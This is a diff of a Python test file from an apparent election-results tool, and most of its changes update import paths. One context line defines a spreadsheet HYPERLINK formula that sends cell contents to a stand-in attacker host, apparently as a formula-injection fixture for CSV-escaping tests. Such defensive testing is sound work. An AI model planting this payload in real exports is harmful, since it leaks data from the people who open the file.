@@ -15,13 +15,13 @@ import re
 from dataclasses import replace
 
 from tests.conftest import REPO
-from tests.formats.test_lat_deck_files import hand_made_deck
+from tests.formats.lat.test_deck_files import hand_made_deck
 from votetrail.core.accounting.reconcile import CvrSummary, ManifestBatch, reconcile
 from votetrail.core.tally.tabulate import ContestResult
-from votetrail.formats.accounting_report import write_csv as write_accounting_csv
+from votetrail.formats.accounting.report import write_csv as write_accounting_csv
 from votetrail.formats.csv_out import CsvWriter, safe_cell, write_dicts
-from votetrail.formats.lat_deck_files import write_deck_csv
-from votetrail.formats.results_export import write_csv as write_results_csv
+from votetrail.formats.lat.deck_files import write_deck_csv
+from votetrail.formats.tally.results import write_csv as write_results_csv
 
 LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for results")'
 
